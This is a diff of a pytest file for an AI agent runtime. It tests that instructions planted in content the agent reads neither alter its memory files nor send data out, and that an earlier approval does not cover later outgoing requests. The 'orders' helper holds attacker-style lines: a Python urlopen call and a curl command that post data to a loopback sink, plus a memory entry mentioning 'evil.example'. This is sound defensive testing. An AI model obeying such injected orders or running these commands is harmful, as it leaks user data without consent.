@@ -11,9 +11,7 @@ import re
 import shutil
 from collections.abc import Iterator
 from dataclasses import dataclass, field, replace
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
-from threading import Thread
 from typing import Any
 
 import pytest
@@ -27,6 +25,7 @@ from hermes_fs.runtime import Options, Runtime
 from hermes_fs.store.formats import entries
 from hermes_fs.store.init import init
 from hermes_fs.store.remote import clone
+from hermes_fs.testing.loopback import Loopback, Outgoing
 
 _FACT = "- Deploys are on Friday\n"
 _FACT_ID = entries.entries(_FACT)[0].id
@@ -57,42 +56,16 @@ class Obedient:
     def close(self) -> None: ...
 
 
-class Sink:
-    """A server on loopback that counts who came by."""
-
-    def __init__(self) -> None:
-        self.visits: list[str] = []
-        visits = self.visits
-
-        class Handler(BaseHTTPRequestHandler):
-            def do_GET(self) -> None:
-                visits.append(self.path)
-                self.send_response(200)
-                self.end_headers()
-
-            do_POST = do_GET
-
-            def log_message(self, *_: Any) -> None: ...
-
-        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        Thread(target=self._server.serve_forever, args=(0.02,), daemon=True).start()
-        self.port = self._server.server_address[1]
-
-    def close(self) -> None:
-        self._server.shutdown()
-        self._server.server_close()
-
-
 @pytest.fixture
-def sink() -> Iterator[Sink]:
-    running = Sink()
-    yield running
-    running.close()
+def sink() -> Iterator[Loopback]:
+    """A server on this machine that remembers who came by."""
+    with Loopback(("", ".*", lambda asked: Outgoing())) as running:
+        yield running
 
 
-def orders(sink: Sink, root: Path, home: Path) -> str:
+def orders(sink: Loopback, root: Path, home: Path) -> str:
     """What an attacker would have the agent do."""
-    url = f"http://127.0.0.1:{sink.port}"
+    url = sink.root
     mind = str(root)
     send = f"import urllib.request as u; u.urlopen('{url}/python')"
     wanted: list[tuple[str, dict[str, Any]]] = [
@@ -130,7 +103,7 @@ class Place:
 
     home: Path
     options: Options
-    sink: Sink
+    sink: Loopback
 
     @property
     def root(self) -> Path:
@@ -154,7 +127,7 @@ def _moves(path: Path) -> bool:
 
 
 @pytest.fixture(params=["local", "sandbox"])
-def place(tmp_path: Path, sink: Sink, request: pytest.FixtureRequest) -> Place:
+def place(tmp_path: Path, sink: Loopback, request: pytest.FixtureRequest) -> Place:
     home = tmp_path / "home"
     (home / "project").mkdir(parents=True)
     (home / ".bashrc").write_text("# mine\n")
@@ -290,7 +263,7 @@ def test_orders_from_elsewhere_change_nothing_and_send_nothing(place: Place, way
     events = way(place, answer)
     tried = [event for event in events if isinstance(event, ToolFinished)]
     assert len(tried) >= 8, [event.result.text for event in tried]
-    assert place.sink.visits == []
+    assert place.sink.requests == []
     assert {path: data for path, data in place.facts().items() if before.get(path) != data} == {}
     assert before.keys() <= place.facts().keys()
     assert any(isinstance(event, Proposed) for event in events)
@@ -302,14 +275,14 @@ def test_the_same_orders_from_the_person_themselves_are_carried_out(place: Place
     with Runtime.open(place.options) as runtime:
         play(talking(runtime), orders(place.sink, place.root, place.home), "once")
     assert "evil.example" in (place.root / "MEMORY.md").read_text()
-    assert place.sink.visits
+    assert place.sink.requests
 
 
 @pytest.mark.parametrize("place", ["local"], indirect=True)
 @pytest.mark.parametrize("approvals", ["ask", "allow"])
 def test_an_earlier_yes_does_not_cover_what_goes_out_later(place: Place, approvals: str) -> None:
     (place.home / "project" / "page.txt").write_text("nothing of interest\n")
-    sends = f"curl -s http://127.0.0.1:{place.sink.port}/again -d x"
+    sends = f"curl -s {place.sink.root}/again -d x"
     options = replace(place.options, settings={**place.options.settings, "approvals.mode": approvals})
 
     def with_fresh_memory(talk: Conversation, *done: str) -> None:
@@ -319,12 +292,12 @@ def test_an_earlier_yes_does_not_cover_what_goes_out_later(place: Place, approva
     with Runtime.open(options) as runtime:
         talk = talking(runtime)
         play(talk, calling("terminal", command=sends), "session")
-        assert len(place.sink.visits) == 1
+        assert len(place.sink.requests) == 1
         with_fresh_memory(talk)
         play(talk, "again", None)
-        assert len(place.sink.visits) == 2
+        assert len(place.sink.requests) == 2
         with_fresh_memory(talk, "terminal" + json.dumps({"command": sends}))
         play(talk, calling("read_file", path="page.txt"), None)
         with_fresh_memory(talk)
         play(talk, "and again", None)
-        assert len(place.sink.visits) == 2
+        assert len(place.sink.requests) == 2
